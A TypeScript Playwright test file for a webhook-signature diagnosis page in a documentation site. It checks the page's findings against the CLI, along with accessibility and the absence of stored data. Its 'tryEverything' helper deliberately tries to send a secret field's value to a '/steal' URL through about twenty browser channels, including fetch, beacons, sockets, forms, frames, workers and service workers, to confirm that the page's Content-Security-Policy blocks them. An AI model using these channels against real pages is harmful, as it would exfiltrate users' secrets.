import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { run } from '@hookseal/cli'
import { discord, github, sendgrid, stripe, twilio } from '@hookseal/core/providers'
import { KNOWN_PROVIDERS, sampleEvent, signed } from '@hookseal/testing'
import { axeFindings } from '@hookseal/tests-kit/axe'
import { screenshot, startBrowser } from '@hookseal/tests-kit/browser'
import { credentialFor, PRIVATE_KEYS } from '@hookseal/tests-kit/credentials'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { SENDERS } from '../.vitepress/theme/why/senders.ts'
import { dist, type Served, serveElsewhere, serveSite } from './serve-site.ts'
import { visit } from './visit.ts'

// The page /why of the built site, in Chromium: it finds what the command finds, and nothing leaves it.

const SECRET = 'a-secret-that-must-not-leave'
const URL_SIGNED = 'https://example.com/webhooks/twilio'
const MAKERS = {
  discord: () => discord({ publicKey: credentialFor('DISCORD_PUBLIC_KEY') }),
  github: () => github({ secret: SECRET }),
  sendgrid: () => sendgrid({ publicKey: credentialFor('SENDGRID_PUBLIC_KEY') }),
  stripe: () => stripe({ secret: SECRET }),
  twilio: () => twilio({ secret: SECRET, url: URL_SIGNED }),
} as const
type Name = keyof typeof MAKERS

interface Case {
  readonly code: string
  readonly sender: Name
  readonly capture: string
  readonly secret?: string
  readonly arrived?: string
  /** Whether the capture is given as a file, byte for byte. */
  readonly isFile?: boolean
  readonly url?: string
}

const NOW = Date.parse('2026-01-15T10:30:00.000Z')
const at = { arrived: '2026-01-15T10:30:00.000Z' }
const request = (name: Name) =>
  signed(MAKERS[name](), sampleEvent(name), { now: NOW, privateKey: PRIVATE_KEYS[name] })

function rawHttp(name: Name, change = (body: string) => body, more: object = {}): string {
  const { headers, body } = request(name)
  const lines = Object.entries({ ...headers, ...more }).map((pair) => `${pair.join(': ')}\n`)
  return `POST / HTTP/1.1\n${lines.join('')}\n${change(`${Buffer.from(body)}`)}`
}
function log(name: Name, write: (body: string) => unknown): string {
  const { headers, body } = request(name)
  return JSON.stringify({ headers, body: write(`${Buffer.from(body)}`) })
}
function har(name: Name): string {
  const { headers, body } = request(name)
  const named = Object.entries(headers).map(([key, value]) => ({ name: key, value }))
  const postData = { text: `${Buffer.from(body)}` }
  return JSON.stringify({
    log: { entries: [{ request: { method: 'POST', headers: named, postData } }] },
  })
}
const spaced = (body: string) => JSON.stringify(JSON.parse(body), null, 2)

const CASES: readonly Case[] = [
  { code: 'verified', sender: 'github', capture: rawHttp('github') },
  { code: 'verified', sender: 'github', capture: request('github').curl('https://example.com/') },
  { code: 'verified', sender: 'stripe', capture: har('stripe'), ...at },
  {
    code: 'unexplained',
    sender: 'github',
    // Without its length, compact JSON may have been written again.
    capture: rawHttp('github', undefined, { 'Content-Length': request('github').body.length }),
    secret: 'not-this-one',
  },
  { code: 'secret_quoted', sender: 'github', capture: rawHttp('github'), secret: `"${SECRET}"` },
  { code: 'secret_whitespace', sender: 'github', capture: rawHttp('github'), secret: ` ${SECRET}` },
  { code: 'body_already_parsed', sender: 'github', capture: log('github', (b) => JSON.parse(b)) },
  { code: 'body_reserialized', sender: 'stripe', capture: log('stripe', spaced), ...at },
  { code: 'timestamp_too_old', sender: 'stripe', capture: har('stripe') },
  {
    code: 'wrong_header',
    sender: 'stripe',
    capture: har('stripe').replaceAll('stripe-signature', 'x-signature'),
    ...at,
  },
  { code: 'other_provider', sender: 'stripe', capture: rawHttp('github') },
  {
    code: 'trailing_newline_added',
    sender: 'github',
    capture: rawHttp('github', (body) => `${body}\r\n`),
    isFile: true,
  },
  {
    code: 'body_base64',
    sender: 'discord',
    capture: rawHttp('discord', (body) => Buffer.from(body).toString('base64')),
    secret: credentialFor('DISCORD_PUBLIC_KEY'),
    ...at,
  },
  {
    code: 'bom_added',
    sender: 'sendgrid',
    capture: rawHttp('sendgrid', (body) => `\ufeff${body}`),
    secret: credentialFor('SENDGRID_PUBLIC_KEY'),
    ...at,
  },
  { code: 'verified', sender: 'twilio', capture: rawHttp('twilio'), url: URL_SIGNED },
]

let browser: Browser
let site: Served
let elsewhere: Served
let page: Page
/** What the page asked for, by any means. */
let asked: string[]
/** What its policy refused, and what its scripts complained about. */
let complaints: string[]
const folder = mkdtempSync(join(tmpdir(), 'hookseal-why-'))

async function open(path = '/why', served = site): Promise<void> {
  await page?.context().close()
  const context = await browser.newContext()
  page = await context.newPage()
  asked = []
  complaints = []
  context.on('request', (one) => asked.push(`${one.method()} ${one.url()} ${one.postData() ?? ''}`))
  context.on('serviceworker', (worker) => asked.push(`SERVICE WORKER ${worker.url()}`))
  page.on('websocket', (socket) => asked.push(`WEBSOCKET ${socket.url()}`))
  page.on('worker', (worker) => asked.push(`WORKER ${worker.url()}`))
  page.on('pageerror', (error) => complaints.push(error.message))
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text())
  })
  await visit(page, served.origin + path)
}

async function ask(one: Omit<Case, 'code'>): Promise<void> {
  await page.selectOption('#why-sender', one.sender)
  if (one.url !== undefined) await page.fill('#why-url', one.url)
  await page.fill('#why-secret', one.secret ?? SECRET)
  await page.fill('#why-arrived', one.arrived ?? '')
  if (one.isFile === true) {
    const path = join(folder, 'captured.http')
    writeFileSync(path, one.capture)
    await page.setInputFiles('#why-file', path)
  } else await page.fill('#why-capture', one.capture)
  await page.click('button[type=submit]')
  await page.waitForSelector('.finding')
}

const shown = () =>
  page.$$eval('.finding', (found) =>
    found.map((one) => ({
      code: (one as HTMLElement).dataset['code'],
      sentence: one.querySelector('.sentence')?.textContent,
      fix: one.querySelector('.fix')?.textContent,
      page: one.querySelector('a')?.getAttribute('href'),
    })),
  )

/** What the command prints for the same capture. */
async function printed(one: Case) {
  const file = join(folder, 'printed')
  writeFileSync(file, one.capture)
  let text = ''
  const stream = { write: (part: string) => (text += part), isTTY: false, columns: 80 }
  const io = { stdout: stream, stderr: stream, env: { SECRET: one.secret ?? SECRET } }
  const args = ['explain', one.sender, file, '--json', '--secret-env', 'SECRET']
  if (one.arrived !== undefined) args.push('--at', one.arrived)
  if (one.url !== undefined) args.push('--signed-url', one.url)
  await run(args, { io: io as never })
  return JSON.parse(text) as readonly { code: string; sentence: string; fix: string }[]
}

beforeAll(async () => {
  if (!existsSync(join(dist, 'why.html'))) throw new Error('run `npm run docs` first')
  site = await serveSite()
  elsewhere = await serveElsewhere()
  browser = await startBrowser()
})
afterAll(async () => {
  await browser?.close()
  site?.close()
  elsewhere?.close()
  rmSync(folder, { recursive: true, force: true })
})

describe('/why', () => {
  beforeEach(() => open())

  it('knows every sender that the command knows', async () => {
    const known = [...KNOWN_PROVIDERS].map(([name, { signsUrl }]) => [name, signsUrl])
    expect(SENDERS.map(({ name, signsUrl }) => [name, signsUrl])).toEqual(known)
    const titles = await page.$$eval('#why-sender option', (all) => all.length)
    expect(titles).toBe(known.length + 1)
  })

  it.each(CASES)('finds $code for $sender, as the command does', async (one) => {
    await ask(one)
    const found = await shown()
    expect(found[0]?.code).toBe(one.code)
    const expected = await printed(one)
    // A time that is off is measured against the clock of each.
    const seconds = (text: string | null | undefined) => text?.replace(/\d+/g, '#')
    expect(found.map(({ code, sentence }) => [code, seconds(sentence)])).toEqual(
      expected.map(({ code, sentence }) => [code, seconds(sentence)]),
    )
    for (const [i, { code, fix, page: link }] of found.entries()) {
      if (code === 'verified') continue
      expect(fix?.trim()).toBe(expected[i]?.fix)
      const [path = '', anchor = ''] = link?.split('#') ?? []
      expect(readFileSync(join(dist, `${path}.html`), 'utf8')).toContain(`id="${anchor}"`)
    }
    expect(complaints).toEqual([])
  })

  it.each([
    ['It verifies', 'verified'],
    ['Wrong secret', 'unexplained'],
    ['Re-serialized body', 'body_reserialized'],
  ])('has an example: %s', async (title, code) => {
    await page.click(`text=${title}`)
    await page.click('button[type=submit]')
    await page.waitForSelector('.finding')
    expect((await shown())[0]?.code).toBe(code)
  })

  it.each([
    ['text that is not a request', { capture: 'hunter2' }, /not a header/],
    ['an empty capture', { capture: '' }, /capture is empty/],
    ['an empty secret', { secret: ' ' }, /secret is empty/],
    ['an unreadable time', { arrived: 'yesterday' }, /time cannot be read/],
    [
      'a missing address that is signed',
      { sender: 'twilio', url: '' } as const,
      /signs the address/,
    ],
  ])('says what is wrong with %s', async (_, wrong, message) => {
    await ask({ sender: 'github', capture: rawHttp('github'), ...wrong })
    const text = await page.textContent('.finding.problem')
    expect(text).toMatch(message)
    expect(text).not.toContain('hunter2')
    expect(text).toMatch(/^[A-Z].*\.$/)
  })

  it('refuses a capture that is too large', async () => {
    await page.$eval('#why-capture', (field) => {
      const area = field as HTMLTextAreaElement
      area.value = 'x'.repeat(8 * 1024 * 1024 + 1)
      area.dispatchEvent(new Event('input'))
    })
    await page.selectOption('#why-sender', 'github')
    await page.fill('#why-secret', SECRET)
    await page.click('button[type=submit]')
    expect(await page.textContent('.finding.problem')).toMatch(/larger than 8 MiB/)
  })

  it('works with the keyboard alone', async () => {
    await page.focus('#why-sender')
    await page.keyboard.type('GitHub')
    await page.keyboard.press('Tab')
    await page.keyboard.type(SECRET)
    await page.keyboard.press('Tab')
    expect(await page.getAttribute('#why-secret', 'type')).toBe('password')
    await page.keyboard.press('Space')
    expect(await page.getAttribute('#why-secret', 'type')).toBe('text')
    await page.keyboard.press('Tab')
    await page.keyboard.insertText(rawHttp('github'))
    for (let i = 0; i < 2; i++) await page.keyboard.press('Tab')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    await page.waitForSelector('.finding.good')
    expect(await page.evaluate(() => document.activeElement?.className)).toContain('results')
  })

  it('keeps nothing', async () => {
    await ask(CASES[0] as Case)
    const state = await page.context().storageState({ indexedDB: true })
    const session = await page.evaluate(() => JSON.stringify({ ...sessionStorage }))
    const local = await page.evaluate(() => JSON.stringify({ ...localStorage }))
    const caches = await page.evaluate(() => globalThis.caches?.keys())
    expect(JSON.stringify(state) + session + local).not.toContain(SECRET)
    expect(caches ?? []).toEqual([])
    await page.goto(`${site.origin}/errors`)
    await page.goBack({ waitUntil: 'networkidle' })
    expect(await page.inputValue('#why-secret')).toBe('')
    expect(await page.inputValue('#why-capture')).toBe('')
  })

  it('sends nothing while a secret is in it', async () => {
    expect(asked.length).toBeGreaterThan(3)
    for (const one of asked) expect(one).toMatch(new RegExp(`^GET ${site.origin}/`))
    asked.splice(0)
    site.requests.splice(0)
    for (const one of CASES.slice(0, 8)) await ask(one)
    await page.getByRole('button', { name: 'Clear' }).click()
    await page.waitForLoadState('networkidle')
    expect(asked).toEqual([])
    expect(site.requests).toEqual([])
    // Nor did the policy have to stop anything.
    expect(complaints).toEqual([])
    await page.click('text=Re-serialized body')
    await page.click('button[type=submit]')
    await page.click('.finding a')
    await page.waitForURL(/\/guides\//)
    await page.waitForLoadState('networkidle')
    expect(site.requests.length).toBeGreaterThan(0)
    const sent = [...asked, ...site.requests.map(({ all }) => all)].join('\n')
    for (const kept of [SECRET, 'a-test-secret', 'octo/example']) expect(sent).not.toContain(kept)
    expect(elsewhere.requests).toEqual([])
  })

  it('cannot send anything, even if a script of its own tried', async () => {
    await ask(CASES[0] as Case)
    site.requests.splice(0)
    await page.evaluate(tryEverything, [elsewhere.origin, site.origin])
    // A browser reports a refusal after the attempt.
    await expect
      .poll(() => page.evaluate(() => [...Reflect.get(globalThis, 'refused')].sort()))
      .toEqual(DIRECTIVES)
    // What the page had sent would have arrived before this.
    for (const { origin } of [elsewhere, site]) await fetch(`${origin}/after`)
    const requested = [...elsewhere.requests, ...site.requests].map(({ url }) => url)
    expect(requested).toEqual(['/after', '/after'])
    expect(await page.evaluate(() => 'reached' in globalThis)).toBe(false)
  })
})

/** Every directive that refuses something, in alphabetical order. */
const DIRECTIVES = [
  'base-uri',
  'connect-src',
  'default-src',
  'font-src',
  'form-action',
  'frame-src',
  'img-src',
  'media-src',
  'object-src',
  'script-src-elem',
  'style-src-elem',
  'worker-src',
]

/** Tries each way out of a page, with its secret. Runs in the page, whose `refused` is the set of what refused it. */
async function tryEverything([elsewhere = '', own = '']: readonly string[]): Promise<void> {
  const field = document.querySelector('#why-secret') as HTMLInputElement
  const refused = new Set<string>()
  Reflect.set(globalThis, 'refused', refused)
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    refused.add(effectiveDirective)
  })
  const add = (name: string, attributes: Record<string, string>) => {
    const element = document.createElement(name)
    for (const pair of Object.entries(attributes)) element.setAttribute(...pair)
    return document.body.appendChild(element)
  }
  const secret = encodeURIComponent(field.value)
  for (const origin of [elsewhere, own]) {
    const to = `${origin}/steal?secret=${secret}`
    await fetch(to, { method: 'POST', body: secret, mode: 'no-cors' }).catch(() => {})
    navigator.sendBeacon(to, secret)
    const xhr = new XMLHttpRequest()
    xhr.open('POST', to)
    xhr.send(secret)
    for (const Socket of [WebSocket, EventSource]) {
      try {
        new Socket(to.replace('http', Socket === WebSocket ? 'ws' : 'http'))
      } catch {}
    }
    const form = add('form', { action: to, method: 'post' }) as HTMLFormElement
    form.submit()
    add('iframe', { src: to })
    add('object', { data: to })
    add('video', { src: to })
    try {
      new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to)})`])))
    } catch {}
    await new FontFace('stolen', `url(${to})`).load().catch(() => {})
  }
  add('base', { href: elsewhere })
  // Scripts, styles and pictures of the site itself are allowed, and with them a prefetch.
  const to = `${elsewhere}/steal?secret=${secret}`
  add('link', { rel: 'prefetch', href: to })
  add('img', { src: to })
  add('script', { src: to })
  add('link', { rel: 'stylesheet', href: to })
  await navigator.serviceWorker?.register(`${own}/assets/steal.js?${secret}`).catch(() => {})
}

describe('the pages around /why', () => {
  it('load it as a document of its own, and leave it for one', async () => {
    await open('/guides/why-does-my-signature-not-match')
    const mark = () => page.evaluate(() => Reflect.set(globalThis, 'mark', true))
    const isMarked = () => page.evaluate(() => 'mark' in globalThis)
    await mark()
    await page.evaluate(() =>
      document.querySelector('#app')?.append(
        Object.assign(document.createElement('a'), {
          href: '/why',
          id: 'to-why',
          textContent: 'why',
        }),
      ),
    )
    await page.$eval('#to-why', (link) => (link as HTMLElement).click())
    await page.waitForSelector('#why-secret:enabled')
    expect(await isMarked()).toBe(false)
    await mark()
    await page.click('.vp-doc a[href*="why-does-my-signature"]')
    await page.waitForURL(/\/guides\//)
    await page.waitForLoadState('networkidle')
    expect(await isMarked()).toBe(false)
  })

  it('can be searched from it', async () => {
    await open()
    await page.keyboard.press('Control+k')
    await page.fill('#localsearch-input', 'bad_signature')
    await page.waitForSelector('.result')
    expect(complaints).toEqual([])
  })

  it('keep the form closed where the policy is missing', async () => {
    const unsealed = await serveSite((path, text) =>
      path === '/why'
        ? Buffer.from(`${text}`.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''))
        : text,
    )
    await open('/why', unsealed)
    expect(await page.textContent('.finding.problem')).toMatch(/without its protection/)
    expect(await page.isDisabled('#why-secret')).toBe(true)
    unsealed.close()
  })
})

describe('how /why looks', () => {
  // Of the page itself: the search button is the theme's.
  const findings = async () =>
    (await axeFindings(page)).filter((finding) => !finding.includes('DocSearch'))
  const SIZES = { wide: { width: 1280, height: 900 }, phone: { width: 390, height: 844 } } as const
  const combinations = Object.keys(SIZES).flatMap((size) =>
    (['light', 'dark'] as const).map((scheme) => [size as keyof typeof SIZES, scheme] as const),
  )

  it.each(combinations)('is accessible and fits: %s, %s', async (size, colorScheme) => {
    await open()
    await page.setViewportSize(SIZES[size])
    await page.emulateMedia({ colorScheme })
    await page.waitForFunction(
      (isDark) => document.documentElement.classList.contains('dark') === isDark,
      colorScheme === 'dark',
    )
    await screenshot(page, `why-empty-${size}-${colorScheme}`, true)
    expect(await findings()).toEqual([])
    await page.click('text=Re-serialized body')
    await page.click('button[type=submit]')
    await page.waitForSelector('.finding')
    await screenshot(page, `why-found-${size}-${colorScheme}`, true)
    expect(await findings()).toEqual([])
    await page.getByRole('button', { name: 'Clear' }).click()
    await page.click('button[type=submit]')
    await page.waitForSelector('.finding.problem')
    expect(await findings()).toEqual([])
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
    expect(overflow).toBeLessThanOrEqual(0)
  })
})
